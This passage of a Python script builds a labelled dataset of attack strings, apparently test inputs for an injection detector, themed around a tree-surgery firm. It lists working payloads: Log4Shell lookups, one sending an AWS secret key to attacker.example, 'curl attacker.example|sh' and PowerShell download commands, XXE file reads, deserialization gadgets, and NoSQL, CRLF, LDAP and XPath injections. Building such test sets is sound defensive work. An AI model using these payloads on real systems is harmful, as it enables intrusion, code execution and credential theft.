    ("log4shell-plain", "${jndi:ldap://attacker.example/a}"),
    ("log4shell-ua-note", "Chipper serviced ${jndi:rmi://203.0.113.15:1099/x}"),
    ("log4shell-lower", "${${lower:j}ndi:${lower:l}dap://attacker.example/o}"),
    ("log4shell-default-nest", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}"),
    ("log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}"),
    ("log4shell-upper-date", "${jndi:${upper:l}${date:'d'}ap://198.51.100.7/p}"),
    ("eval-python", "__import__('os').system('id')"),
    ("eval-python-exec", "exec(\"import socket,subprocess;subprocess.call(['sh','-c','id'])\")"),
    ("eval-node", "require('child_process').exec('curl attacker.example|sh')"),
    ("eval-node-process", "process.mainModule.require('child_process').execSync('cat /etc/passwd').toString()"),
    ("eval-php", "system($_GET['c']);"),
    ("eval-php-tag", "<?php echo shell_exec($_REQUEST['x']); ?>"),
    ("eval-php-assert", "assert(\"system('id')\");"),
    ("eval-ruby-kernel", "Kernel.exec('id')"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-query", "__proto__[isAdmin]=true"),
    ("proto-pollution-rce", "{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":{\"X\":\"console.log(require('child_process').execSync('id').toString())//\"}}}"),
    ("csv-formula-cmd", "=cmd|' /C calc'!A0"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open TPO map\")"),
    ("csv-formula-plus", "+cmd|'/C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula-minus", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")"),
    ("csv-dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"http://203.0.113.19/x?\"&A1)"),
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><survey><tree>&x;</tree></survey>"),
    ("xxe-oob-param", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("xxe-ssrf", "<!DOCTYPE q [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><quote>&m;</quote>"),
    ("xxe-php-filter", "<!DOCTYPE t [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/hosts\">]><t>&f;</t>"),
    ("xinclude", "<tree xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></tree>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("yaml-python-apply", "!!python/object/apply:os.system ['id']"),
    ("yaml-python-new", "tree: !!python/object/new:subprocess.check_output [['cat','/etc/passwd']]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("yaml-python-popen", "job_import:\n  crew: !!python/object/apply:subprocess.Popen [[\"sh\", \"-c\", \"curl attacker.example|sh\"]]\n"),
    ("pickle-b64", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("java-xstream-eventhandler", "<sorted-set><string>T3</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("pickle-protocol0-text", "cos\nsystem\n(S'id'\ntR."),
    ("dotnet-json-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("dotnet-xaml-objectdataprovider", "<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" xmlns:s=\"clr-namespace:System;assembly=mscorlib\" xmlns:d=\"clr-namespace:System.Diagnostics;assembly=system\"><ObjectDataProvider x:Key=\"p\" ObjectType=\"{x:Type d:Process}\" MethodName=\"Start\"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c whoami</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"),
    ("php-unserialize", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("php-object-injection", "a:1:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\u0000*\u0000socket\";O:29:\"Monolog\\Handler\\BufferHandler\":0:{}}}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.15:1099/e\",\"autoCommit\":true}"),
]
CODE_T_PREFIX = ["Quote footer: ", "Email subject: Your quote – ", "Tree species: ", "Job note T3: "]
CODE_T_PAYLOAD = ["{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
                  "${jndi:ldap://attacker.example:1389/k}", "${T(java.lang.Runtime).getRuntime().exec('id')}"]
# (code templates are currently not used: ntpl = 0 below; all 80 code values are literals)

NOSQLI = [
    ("json-ne-login", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("json-regex-any", "{\"$regex\": \".*\"}"),
    ("json-regex-prefix-extract", "{\"$regex\": \"^a\", \"$options\": \"i\"}"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where-this", "{\"$where\": \"this.password.match(/^a/)\"}"),
    ("json-or-bypass", "{\"$or\": [{}, {\"email\": \"tom@greenbough.example\"}]}"),
    ("json-nin", "{\"$nin\": [\"\"]}"),
    ("json-exists", "{\"$exists\": true}"),
    ("json-expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("json-lookup-users", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("json-in-list", "{\"$in\": [\"admin\", \"root\", \"tom\"]}"),
    ("string-where-breakout", "T3' || '1'=='1"),
    ("string-js-breakout", "oak'; return true; var x='"),
    ("string-js-sleep", "'; sleep(5000); var d='"),
    ("string-js-while", "x'; while(true){}; var y='"),
    ("query-ne", "email[$ne]=x&password[$ne]=x"),
    ("query-gt", "username[$gt]=&password[$gt]="),
    ("query-regex", "password[$regex]=^tr.*"),
    ("query-where", "$where=1==1"),
    ("couch-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("mongo-mapreduce-js", "{\"$where\": \"function(){ return db.getSiblingDB('admin') != null }\"}"),
    ("json-regex-redos", "{\"$regex\": \"^(a+)+$\"}"),
    ("search-note-ne", "leylandii\", \"owner\": {\"$ne\": \"x\"}, \"x\": \""),
]
NOSQL_T_PREFIX = ["customer[name]", "job[crew]", "tpo[ref]"]
NOSQL_T_PAYLOAD = ["[$ne]=1", "[$regex]=.*", "[$gt]="]

CRLF = [
    ("log-forge-newline", "Tom Hughes\n2024-05-03 10:12:01 INFO login success user=admin ip=10.0.0.1"),
    ("log-forge-crlf", "Job 2291 done\r\n[WARN] payment refunded to attacker@attacker.example"),
    ("log-forge-urlenc", "oak%0d%0a2024-05-03 INFO admin password reset ok"),
    ("log-forge-urlenc-lf", "T3%0aINFO: user=tom role=admin granted"),
    ("log-forge-unicode-ls", "chipper\u2028ERROR auth bypass granted to 203.0.113.5"),
    ("log-forge-nel", "kit\u0085[AUDIT] deleted all invoices by director"),
    ("log-forge-ansi", "R14 ok\u001b[2J\u001b[1;1HINFO all clear"),
    ("header-set-cookie", "en-GB\r\nSet-Cookie: session=attacker; Path=/"),
    ("header-set-cookie-urlenc", "en-GB%0d%0aSet-Cookie:%20sid=fixated"),
    ("header-location", "/quotes\r\nLocation: https://attacker.example/"),
    ("response-splitting", "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting-raw", "ok\r\n\r\n<html><script>alert(1)</script></html>"),
    ("header-double-urlenc", "gb%250d%250aSet-Cookie:%2520x=1"),
    ("header-utf8-crlf", "x%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("header-access-control", "greenbough\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-xss-protection-off", "x\r\nX-XSS-Protection: 0"),
    ("header-host-override", "x\r\nX-Forwarded-Host: attacker.example"),
    ("mail-bcc", "Mrs O'Neill <oneill@example.com>\r\nBcc: victims@attacker.example"),
    ("mail-cc-lf", "tom@greenbough.example\nCc: all@attacker.example"),
    ("mail-subject-body", "Your quote Q-0381\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Pay here</a>"),
    ("mail-to-urlenc", "office@greenbough.example%0aBcc:spam@attacker.example"),
    ("mail-from-spoof", "x\r\nFrom: director@greenbough.example\r\nReply-To: pay@attacker.example"),
    ("smtp-smuggle", "hi\r\n.\r\nMAIL FROM:<ceo@greenbough.example>\r\nRCPT TO:<x@attacker.example>\r\nDATA\r\n"),
    ("redis-protocol-inject", "T3\r\nFLUSHALL\r\n"),
    ("http-request-smuggle-header", "x\r\nTransfer-Encoding: chunked"),
    ("csv-log-row", "Pete\r\n2291,refund,£5000,approved"),
    ("sms-header-inject", "Hi%0d%0aX-Priority:%201%0d%0aTo:%20all@attacker.example"),
]
CRLF_T_PREFIX = ["Tom Hughes", "TPO/2019/0047", "Q-2024-0381"]
CRLF_T_PAYLOAD = ["\r\nSet-Cookie: admin=1", "%0d%0aLocation:%20//attacker.example", "\nINFO admin login ok"]

LDAPX = [
    ("ldap-wildcard-nullbyte-urlenc", "tom*))%00"),
    ("ldap-close-or", "tom)(|(uid=*))"),
    ("ldap-close-and-true", "tom)(&)"),
    ("ldap-password-bypass", "*)(userPassword=*))(|(cn=*"),
    ("ldap-attr-enum", "Hughes*)(mail=*"),
    ("ldap-objectclass", "x)(objectClass=*"),
    ("ldap-blind-prefix", "admin)(userPassword=a*"),
    ("ldap-nullbyte", "tom)(uid=*))\u0000"),
    ("ldap-hex-escape-star", "tom\\2a)(|(cn=\\2a"),
    ("ldap-description-leak", "*)(description=*pass*"),
    ("xpath-or-true", "' or '1'='1"),
    ("xpath-or-true-numeric", "1 or 1=1"),
    ("xpath-login-bypass", "tom' or 1=1 or 'a'='a"),
    ("xpath-union-node", "x'] | //user/password | //x['"),
    ("xpath-count-blind", "' or count(//user)>3 or 'a'='b"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("xpath-name-enum", "' or name(/*[1])='staff' or '1'='2"),
    ("xpath-doc-fn", "' or doc('http://attacker.example/x.xml') or '"),
]
LDAPX_T_PREFIX = ["Hughes", "tom"]
LDAPX_T_PAYLOAD = ["*)(uid=*))(|(uid=*", "' or '1'='1"]

CATS = [
    ("sqli", SQLI, SQLI_T_PREFIX, SQLI_T_PAYLOAD, 9),
    ("xss", XSS, XSS_T_PREFIX, XSS_T_PAYLOAD, 10),
    ("cmdi", CMDI, CMDI_T_PREFIX, CMDI_T_PAYLOAD, 6),
    ("traversal", TRAVERSAL, TRAV_T_PREFIX, TRAV_T_PAYLOAD, 6),
    ("ssrf", SSRF, SSRF_T_PREFIX, SSRF_T_PAYLOAD, 6),
    ("code", CODE, CODE_T_PREFIX, CODE_T_PAYLOAD, 0),
    ("nosqli", NOSQLI, NOSQL_T_PREFIX, NOSQL_T_PAYLOAD, 3),
    ("crlf", CRLF, CRLF_T_PREFIX, CRLF_T_PAYLOAD, 3),
    ("ldap-xpath", LDAPX, LDAPX_T_PREFIX, LDAPX_T_PAYLOAD, 2),
]


def urlencode_all(s):
    return urllib.parse.quote(s, safe="")


def templated(cat, prefixes, payloads, rng, i):
    """Join a hand-written prefix to a hand-written payload; every other one
    is additionally URL-encoded once (the only encoding applied)."""
    p = rng.choice(prefixes)
    q = rng.choice(payloads)
    if cat == "ssrf":
        # a fetched-URL field holds the bare URL: no prefix, encoding only
        v = q
        if i % 2 == 1:
            return "tpl-url+urlencode", urlencode_all(v)
        return "tpl-url", v
    if cat in ("traversal", "nosqli"):
        # path / query-fragment fields: prefix and payload joined directly
        v = p + q
        if i % 2 == 1:
            return "tpl-join+urlencode", urlencode_all(v)
        return "tpl-join", v
    v = p + q
    if i % 2 == 1:
        return "tpl-prefix+urlencode", urlencode_all(v)
    return "tpl-prefix", v


def main():
    rng = random.Random(SEED)
    out = []
    n = 0
    seen = set()
    for cat, lits, prefixes, payloads, ntpl in CATS:
        rows = []
        for cls, v in lits:
            assert v and v not in seen, (cat, v)
            seen.add(v)
            rows.append((cls, v))
        i = 0
        tries = 0
        while i < ntpl:
            tries += 1
            assert tries < 1000, cat
            cls, v = templated(cat, prefixes, payloads, rng, i)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cls, v))
            i += 1
        for cls, v in rows:
            n += 1
            out.append(json.dumps({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                                   "label": "attack", "value": v}, ensure_ascii=False))
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(out) + "\n")


if __name__ == "__main__":
    main()
